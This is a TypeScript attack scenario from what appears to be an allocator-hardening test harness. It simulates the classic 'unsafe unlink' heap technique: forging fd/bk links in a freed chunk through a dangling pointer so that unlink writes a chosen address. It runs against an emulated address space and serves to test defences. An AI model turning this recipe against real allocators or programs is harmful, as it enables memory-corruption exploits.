/*
 * Unsafe unlink: a freed chunk's doubly linked list links (fd, bk) are overwritten, and when the
 * allocator takes the chunk out of its bin it writes bk at fd + offset and fd at bk + offset —
 * two words written where the attacker chose (Solar Designer's 2000 Netscape advisory; Phrack 57,
 * MaXX's "Vudo malloc tricks" and anonymous's "Once upon a free()").
 *
 * Steps, per attempt (one offset k, PAIR_OFFSETS): blocks P, B, G of 1200, 1200 and 64 bytes
 * (past any per-size cache, so B goes to a bin when freed; G keeps B away from the top); free(B);
 * through the dangling pointer the two words at B + k and B + k + 4 are set to target + 0x400 and
 * target + 0x800, addresses in the program's own page. k = 0: the first user words (glibc's fd/bk
 * in a 32-bit layout); k = −8: dlmalloc-style's fd/bk at chunk + 8 and + 12; −16, −24: the same
 * under a wrapper's 16-byte front zone. Then malloc(1200), which takes B out of its bin; if the
 * page is unchanged, free(P), which merges with a free B.
 * Goal: a word of the program's page changed (chosen address written).
 */

import { PROT_WRITE, type Allocator } from '../../api.js';
import type { AddressSpace } from '../../space/address-space.js';
import { PAIR_OFFSETS, changedWord, hx, programMapping, snapshot, type AttackAttempt, type AttackScenario, type Reached } from './kit.js';

const SIZE = 1200;

function attempt(k: number): AttackAttempt {
  return {
    name: `fd/bk at p${k === 0 ? '' : k}`,
    run(a: Allocator, space: AddressSpace): Reached | string {
      const target = programMapping(space);
      const before = snapshot(space, target, space.pageSize);
      const p = a.malloc(SIZE);
      const b = a.malloc(SIZE);
      a.malloc(64);
      if (p === 0 || b === 0) return 'out of memory';
      a.free(b);
      if (k !== 0 && !space.accessible(b + k, 8, PROT_WRITE)) return `no writable header words at p${k}`;
      space.store32(b + k, target + 0x400);
      space.store32(b + k + 4, target + 0x800);
      const written = (): Reached | null => {
        const w = changedWord(space, target, before);
        return w === null ? null : { primitive: 'chosen address written', detail: `with the links at ${hx(b + k)} forged, the allocator wrote ${hx(w.value)} at ${hx(w.addr)} in the program's page` };
      };
      a.malloc(SIZE);
      const r1 = written();
      if (r1) return r1;
      a.free(p);
      const r2 = written();
      if (r2) return r2;
      return `nothing written in the program's page (links at p${k || ''})`;
    },
  };
}

export const unsafeUnlink: AttackScenario = {
  name: 'unsafe-unlink',
  title: 'unsafe unlink',
  what: "Forged fd/bk links in a free chunk make the allocator's unlink write a pointer to an address the attacker chose.",
  source: "Phrack 57 (2001): MaXX, \"Vudo malloc tricks\", and anonymous, \"Once upon a free()\"; how2heap's unsafe_unlink.c; glibc's check (\"corrupted double-linked list\")",
  writes: `after free(B) of a ${SIZE}-byte block: the two 32-bit words at B + k and B + k + 4 set to two addresses in the program's own page, for k in {${PAIR_OFFSETS.join(', ')}} (one attempt each): the first user words, or the fd/bk words of a header below B`,
  attempts: PAIR_OFFSETS.map(attempt),
};
